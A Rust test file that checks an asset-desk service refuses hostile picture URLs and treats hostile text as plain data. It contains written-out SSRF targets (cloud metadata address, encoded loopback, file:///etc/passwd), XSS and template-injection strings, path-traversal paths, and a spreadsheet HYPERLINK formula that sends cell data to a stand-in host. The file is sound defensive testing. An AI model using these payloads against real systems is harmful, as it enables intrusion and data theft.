//! A payload is a stranger's word: none of these reaches, crashes or fills anything, through the whole desk.

use std::fs;
use std::sync::Arc;

use lysbord_core::export::What;
use reqwest::dns::{Addrs, Name, Resolve, Resolving};
use serde_json::{Value, json};

use crate::desk::{OpenDesk, text};
use crate::notice::{about, with_fields, with_pictures};
use crate::renditions::archive::{Archive, picture, redirect};
use crate::renditions::drawn::jpeg;

/// Says that every name is this computer, and never asks the network.
struct AllRoadsLeadHome;

impl Resolve for AllRoadsLeadHome {
    fn resolve(&self, _: Name) -> Resolving {
        let home = ["127.0.0.1:0", "[::1]:0"].map(|address| address.parse().unwrap());
        Box::pin(async move { Ok(Box::new(home.into_iter()) as Addrs) })
    }
}

/// A desk that vouches for nobody.
async fn wary() -> OpenDesk {
    OpenDesk::with(|options| options.fetcher.resolver = Arc::new(AllRoadsLeadHome)).await
}

#[tokio::test]
async fn a_payload_without_a_tenant_chooses_no_host() {
    let archive = Archive::open(async |_| picture(jpeg(60, 40))).await;
    let port = archive.address.port();
    let desk = wary().await;
    let private = "refused: private address";
    let table = [
        (format!("https://127.0.0.1:{port}/a.jpg"), private),
        (format!("http://127.0.0.1:{port}/a.jpg"), private),
        (format!("https://2130706433:{port}/a.jpg"), private),
        (format!("https://0x7f.1:{port}/a.jpg"), private),
        (format!("https://[::1]:{port}/a.jpg"), private),
        (format!("https://[::ffff:127.0.0.1]:{port}/a.jpg"), private),
        (format!("https://[::ffff:7f00:1]:{port}/a.jpg"), private),
        ("https://169.254.169.254/latest/meta-data/".to_owned(), private),
        ("https://10.1.2.3/a.jpg".to_owned(), private),
        ("https://[fe80::1]/a.jpg".to_owned(), private),
        (format!("https://localhost:{port}/a.jpg"), private),
        (format!("https://rebinding.example:{port}/a.jpg"), private),
        ("http://dam.example/a.jpg".to_owned(), "refused: not encrypted, and not one of your Fotoware sites"),
        (format!("https://me:word@127.0.0.1:{port}/a.jpg"), "refused: a user name in the address"),
        ("file:///etc/passwd".to_owned(), "refused: not a web address"),
        ("FILE:///etc/passwd".to_owned(), "refused: not a web address"),
        ("data:image/gif;base64,R0lGODlhAQABAAAAACw=".to_owned(), "refused: not a web address"),
        ("javascript:alert(1)".to_owned(), "refused: not a web address"),
        ("gopher://127.0.0.1:70/".to_owned(), "refused: not a web address"),
        ("//127.0.0.1/a.jpg".to_owned(), private),
        ("\\\\127.0.0.1\\share\\a.jpg".to_owned(), "refused: not a web address"),
    ];
    for (number, (url, why)) in table.iter().enumerate() {
        let name = format!("{number}.jpg");
        desk.take("ingested", &with_pictures(about(&name, 0, &name), url, url)).await;
        desk.pictures_settled().await;
        let tile = desk.found_by_name(&name).await;
        for role in ["thumbnail", "preview"] {
            assert_eq!(tile[role]["reason"], *why, "{url}");
        }
    }
    assert!(archive.asked().is_empty(), "{:?}", archive.asked());
    assert!(desk.desk.blobs.list().unwrap().is_empty());
}

#[tokio::test]
async fn a_tenant_sends_nobody_into_the_network() {
    let inner = Archive::open(async |_| picture(jpeg(60, 40))).await;
    let target = inner.url("/inner.jpg");
    let archive = Archive::open(move |_| {
        let target = target.clone();
        async move { redirect(&target) }
    })
    .await;
    let tenant = archive.url("").parse().unwrap();
    let desk = OpenDesk::with(|options| options.tenants = vec![tenant]).await;
    for (number, url) in
        [archive.url("/a.jpg"), inner.url("/b.jpg"), "https://evil.example/c.jpg".into()].iter().enumerate()
    {
        let name = format!("{number}.jpg");
        desk.take("ingested", &with_pictures(about(&name, 0, &name), url, url)).await;
        desk.pictures_settled().await;
        let tile = desk.found_by_name(&name).await;
        assert_eq!(tile["preview"]["reason"], "refused: not one of your Fotoware sites", "{url}");
    }
    assert!(inner.asked().is_empty());
    let leaked = archive.asked().into_iter().find(|asked| asked.cookie.is_some() || asked.referer.is_some());
    assert!(leaked.is_none(), "{leaked:?}");
}

#[tokio::test]
async fn markup_paths_and_formulas_are_text_wherever_they_stand() {
    let markup = "<script>alert(1)</script><img src=x onerror=alert(1)>{{7*7}}${7*7}";
    let path = "..\\..\\..\\Windows\\System32\\calc.exe";
    let formula = "=HYPERLINK(\"http://evil.example?\"&A1)";
    let desk = OpenDesk::new().await;
    for (number, word) in
        [markup, path, "../../../../../tmp/lysbord-was-here", formula, "CON", ".", "..", "a\u{202e}gpj.exe"]
            .into_iter()
            .enumerate()
    {
        let mut notice = about(&format!("{number}{word}"), number as i64, word);
        for key in ["title", "description", "byline", "tags", "operation-name", "type", "file-size"] {
            notice[key] = word.into();
        }
        for key in ["doctype", "createdBy", "archiveHREF", "linkstance"] {
            notice["data"][key] = word.into();
        }
        notice["data"]["ancestors"] = json!([{"name": word, "href": word}]);
        notice["data"]["attributes"] =
            json!({"photoAttributes": {"cameraModel": word, "exposure": {"n": word, "d": 0}}});
        let fields = [
            ("5", json!(word)),
            ("25", json!([word, word])),
            ("80", json!(word)),
            ("120", json!(word)),
            ("999", json!(word)),
        ];
        desk.take("ingested", &with_fields(notice, fields)).await;
    }
    desk.pictures_settled().await;

    for tile in desk.tiles("").await {
        let asset = desk.get(&format!("/api/assets/{}", text(&tile["id"]))).await;
        let word = text(&asset["filename"]);
        assert_eq!(
            (&asset["title"], &asset["archive"]),
            (&Value::from(&*word), &Value::from(&*word)),
            "told as it came"
        );
        let delivery = desk.body(&json!({"id": asset["versions"][0]["delivery_id"]})).await;
        assert_eq!(serde_json::from_str::<Value>(&delivery).unwrap()["title"], *word);
    }
    let rows = desk.rows(What::Assets).await;
    assert!(rows.iter().any(|row| row["filename"] == format!("'{formula}")));
    assert!(rows.iter().any(|row| row["filename"] == markup), "CSV knows no markup");
    assert!(!fs::exists("/tmp/lysbord-was-here").unwrap());
    let mut files: Vec<_> =
        fs::read_dir(desk.path()).unwrap().map(|file| file.unwrap().file_name().into_string().unwrap()).collect();
    files.retain(|file| !file.starts_with("library.db") && !file.starts_with("pictures.db"));
    files.sort();
    assert_eq!(
        files,
        ["blobs", "library.spool-1", "library.spool-2", "lysbord.lock", "secrets.json"],
        "no payload names a file"
    );
}
